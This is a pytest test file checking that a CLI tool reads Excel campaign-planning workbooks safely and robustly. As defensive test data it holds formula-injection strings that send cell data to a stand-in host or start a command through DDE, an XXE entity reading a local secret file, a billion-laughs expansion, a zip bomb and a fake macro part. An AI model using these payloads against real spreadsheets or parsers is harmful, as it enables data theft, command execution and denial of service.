"""Workbooks as desks and enemies make them, word by word: each cell that is not understood is named, nothing runs, nothing is lost."""

import io
import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select
from typer.testing import CliRunner, Result

from cli.main import app
from collectors.planner.blank import write_workbook
from storage.engine import create_store, open_store
from storage.queries import candidate_list
from storage.tables import AUDIENCE_SHARE, PERFORMANCE, QUOTE

Call = Callable[..., Result]
KEY = bytes(range(32))
LINK = "https://weibo.com/u/1001"
FORMS = ((0.35, 0.65), (35, 65), ("35%", "65%"), ("３５％", "６５％"), ("35 %", " 65%"))


@pytest.fixture
def call(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Call:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "fanfit.toml").write_text('lang = "en"\n', "utf-8")
    (tmp_path / "secret.key").write_text(KEY.hex() + "\n", "ascii")
    (tmp_path / "secret.key").chmod(0o600)
    create_store(f"sqlite:///{tmp_path / 'fanfit.db'}", key=KEY, vault_path=tmp_path / "vault.db").close()
    return lambda *arguments: CliRunner().invoke(app, ["--workspace", str(tmp_path), *arguments])


@pytest.fixture
def desk(tmp_path: Path) -> Path:
    """One account with a quote, shares and a median."""
    path = tmp_path / "desk.xlsx"
    rows: dict[str, list[dict[str, object]]] = {
        "candidates": [{"given": LINK, "name": "Wang"}],
        "quotes": [{"account": LINK, "format": "image text", "price": 12000, "currency": "CNY", "observed_at": "2026-11-01"}],
        "audience": [
            {
                "account": LINK,
                "base": "followers",
                "dimension": "gender",
                "bucket": bucket,
                "share": share,
                "observed_at": "2026-11-01",
            }
            for bucket, share in (("female", 0.62), ("male", 0.38))
        ],
        "performance": [{"account": LINK, "metric": "reads", "value": 5000, "n": 20, "observed_at": "2026-11-01"}],
    }
    write_workbook(path, "en", brief={"campaign": "spring"}, rows=rows)
    return path


def changed(path: Path, change: Callable[[Any], None]) -> Path:
    book = openpyxl.load_workbook(path)
    change(book)
    book.save(path)
    return path


def read(call: Call, path: Path) -> dict[str, Any]:
    done = call("workbook", "read", str(path), "--json")
    assert done.exit_code == 0, done.output
    return dict(json.loads(done.stdout))


def problems(found: dict[str, Any]) -> list[tuple[str, str]]:
    return [(each["sheet"], each["place"]) for sheet in found["sheets"] for each in sheet["problems"]]


def stored(folder: Path, table: Any, column: str) -> list[Any]:
    store = open_store(f"sqlite:///{folder / 'fanfit.db'}", key=KEY, vault_path=folder / "vault.db")
    with store.read() as conn:
        found = list(conn.execute(select(table.c[column])).scalars())
    store.close()
    return found


def names(folder: Path) -> list[str | None]:
    store = open_store(f"sqlite:///{folder / 'fanfit.db'}", key=KEY, vault_path=folder / "vault.db")
    found = [row.name for row in candidate_list(store, "spring")]
    store.close()
    return found


@pytest.mark.parametrize("error", ["#REF!", "#N/A", "#VALUE!", "#DIV/0!", "#NAME?"])
def test_an_error_in_a_cell_is_named_and_its_row_alone_left_out(call: Call, desk: Path, tmp_path: Path, error: str) -> None:
    def change(book: Any) -> None:
        book["Quotes"].append([LINK, None, "live", None, error, "CNY"])

    found = read(call, changed(desk, change))
    assert problems(found) == [("Quotes", "E3")]
    assert stored(tmp_path, QUOTE, "format") == ["image_text"]


@pytest.mark.parametrize("forms", FORMS, ids=str)
def test_a_share_is_a_share_however_it_is_written(call: Call, desk: Path, tmp_path: Path, forms: tuple[object, object]) -> None:
    def change(book: Any) -> None:
        for row, value in zip((2, 3), forms, strict=True):
            book["Audience"].cell(row, 6).value = value

    assert problems(read(call, changed(desk, change))) == []
    assert sorted(stored(tmp_path, AUDIENCE_SHARE, "share")) == pytest.approx([0.35, 0.65])


@pytest.mark.parametrize(
    ("written", "day"), [("2026-11-02", 2), ("2026/11/2", 2), ("2026年11月2日", 2), ("2026.11.02", 2), ("２０２６-１１-０２", 2)]
)
def test_a_date_as_text_is_that_day_or_its_cell_is_named(call: Call, desk: Path, tmp_path: Path, written: str, day: int) -> None:
    found = read(call, changed(desk, lambda book: book["Performance"].cell(2, 10, written)))
    seen = stored(tmp_path, PERFORMANCE, "observed_at")
    if seen:
        assert [(each.year, each.month, each.day in {day, day - 1}) for each in seen] == [(2026, 11, True)], (
            "midnight in Shanghai is the day before in UTC"
        )
    else:
        assert problems(found) == [("Performance", "J2")]


def test_digits_of_full_width_are_digits(call: Call, desk: Path, tmp_path: Path) -> None:
    read(call, changed(desk, lambda book: book["Performance"].cell(2, 4, "１２，３４５")))
    assert stored(tmp_path, PERFORMANCE, "value") == [12_345]


@pytest.mark.parametrize("name", ["山行🏔️", "\u202eevil\u202c name", "\u200fشاي", "a\u200db", "Nora\u0301"])
def test_a_name_with_emoji_or_turned_signs_stays_and_cannot_turn_the_terminal(
    call: Call, desk: Path, tmp_path: Path, name: str
) -> None:
    changed(desk, lambda book: book["Candidates"].cell(2, 2, name))
    done = call("workbook", "read", str(desk))
    assert done.exit_code == 0, done.output
    assert "\u202e" not in done.stdout
    shown = call("candidates", "show", "spring")
    assert "\u202e" not in shown.stdout
    [kept] = names(tmp_path)
    assert kept is None or kept.strip("\u200f\u200d\u202e\u202c")


def test_three_header_rows_and_a_merged_title_lose_nothing(call: Call, desk: Path, tmp_path: Path) -> None:
    def change(book: Any) -> None:
        sheet = book["Quotes"]
        sheet.insert_rows(1, 2)
        sheet["A1"], sheet["A2"] = "Spring campaign, second round", "prices are before tax"
        sheet.merge_cells("A1:F1")

    found = read(call, changed(desk, change))
    assert problems(found) == []
    assert {each["text"] for each in found["loose"]} >= {"Spring campaign, second round", "prices are before tax"}
    assert stored(tmp_path, QUOTE, "format") == ["image_text"]


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://evil.example/?q="&A2,"Wang")',
        '=WEBSERVICE("https://evil.example")',
        "=cmd|' /C calc'!A0",
        '=IMAGE("https://evil.example/a.png")',
        "=1+1",
    ],
)
def test_a_formula_is_never_worked_out_nor_followed(
    call: Call, desk: Path, tmp_path: Path, formula: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def never(*_: object, **__: object) -> None:
        message = "something was started"
        raise AssertionError(message)

    monkeypatch.setattr(os, "system", never)
    monkeypatch.setattr("socket.create_connection", never)

    def change(book: Any) -> None:
        book["Quotes"].cell(2, 5).value = formula
        book["Quotes"].cell(2, 5).data_type = "f"

    found = read(call, changed(desk, change))
    assert problems(found) == [("Quotes", "E2")]
    assert stored(tmp_path, QUOTE, "format") == []
    assert names(tmp_path) == ["Wang"], "the other sheets are read"


def test_a_link_formula_gives_its_address(call: Call, desk: Path, tmp_path: Path) -> None:
    def change(book: Any) -> None:
        book["Candidates"].cell(2, 1).value, book["Candidates"].cell(2, 2).value = f'=HYPERLINK("{LINK}","Old Wang")', None

    read(call, changed(desk, change))
    assert names(tmp_path) == ["Old Wang"]


def test_hidden_rows_and_hidden_sheets_are_read_and_said(call: Call, desk: Path, tmp_path: Path) -> None:
    def change(book: Any) -> None:
        book["Candidates"].append(["https://weibo.com/u/1002", "Hidden"])
        book["Candidates"].row_dimensions[3].hidden = True
        book["Performance"].sheet_state = "hidden"

    found = read(call, changed(desk, change))
    assert names(tmp_path) == ["Wang", "Hidden"]
    assert stored(tmp_path, PERFORMANCE, "value") == [5000]
    assert any("hidden" in note.lower() for sheet in found["sheets"] for note in [*sheet["notes"], *found["notes"]])


def with_part(path: Path, name: str, content: bytes) -> Path:
    """The same package with one part put in, or put in the place of another."""
    held = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for each in held.namelist():
            if each != name:
                book.writestr(each, held.read(each))
        book.writestr(name, content)
    return path


def test_an_entity_that_would_read_a_file_or_fill_the_memory_is_refused(call: Call, desk: Path, tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("the secret", "utf-8")
    held = zipfile.ZipFile(io.BytesIO(desk.read_bytes())).read("xl/sharedStrings.xml").decode()
    file = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{tmp_path / "secret.txt"}">]>'
    many = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "' + "&a;" * 10 + '"><!ENTITY c "' + "&b;" * 10 + '">]>'
    for kind in (file, many):
        head, _, body = held.partition("?>")
        with_part(desk, "xl/sharedStrings.xml", f"{head}?>{kind}{body.replace('Wang', '&a;')}".encode())
        done = call("workbook", "read", str(desk))
        assert "the secret" not in done.output
        assert done.exit_code == 3, done.output
        assert "desk.xlsx" in done.output


def test_external_links_and_macros_are_left_alone(call: Call, desk: Path, tmp_path: Path) -> None:
    with_part(desk, "xl/externalLinks/externalLink1.xml", b"<externalLink/>")
    with_part(desk, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 AutoOpen")
    found = read(call, desk)
    assert any("macro" in note.lower() for note in found["notes"])
    assert names(tmp_path) == ["Wang"]


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "password"), (b"platform,account_id\nweibo,1\n", "no such file"), (b"", ""), (b"PK\x03\x04 torn", ""),
        (b"<html><table></table></html>", ""),
    ],
)  # fmt: skip
def test_what_only_is_called_a_workbook_is_refused_in_words(call: Call, tmp_path: Path, content: bytes, why: str) -> None:
    path = tmp_path / "desk.xlsx"
    path.write_bytes(content)
    done = call("workbook", "read", str(path))
    assert done.exit_code == 3, done.output
    assert "desk.xlsx" in done.output
    assert why in done.output
    assert "Traceback" not in done.output


def test_fifty_megabytes_and_a_bomb_are_not_opened(call: Call, desk: Path) -> None:
    heavy = with_part(desk, "xl/media/photo.png", os.urandom(50 << 20))
    done = call("workbook", "read", str(heavy))
    assert done.exit_code == 3
    assert "20 MB" in " ".join(done.output.split())
    bomb = with_part(desk, "xl/media/photo.png", bytes(900 << 20))
    refused = call("workbook", "read", str(bomb))
    assert refused.exit_code == 3, refused.output


def test_sheets_out_of_order_renamed_or_missing_are_known_by_their_headers(call: Call, desk: Path, tmp_path: Path) -> None:
    def change(book: Any) -> None:
        book.move_sheet("Quotes", -2)
        book["Quotes"].title = "prices v3 (final)"
        del book["Performance"]
        book.create_sheet("my own").append(["call her on Monday"])

    found = read(call, changed(desk, change))
    assert stored(tmp_path, QUOTE, "format") == ["image_text"]
    assert "call her on Monday" in {each["text"] for each in found["loose"]}
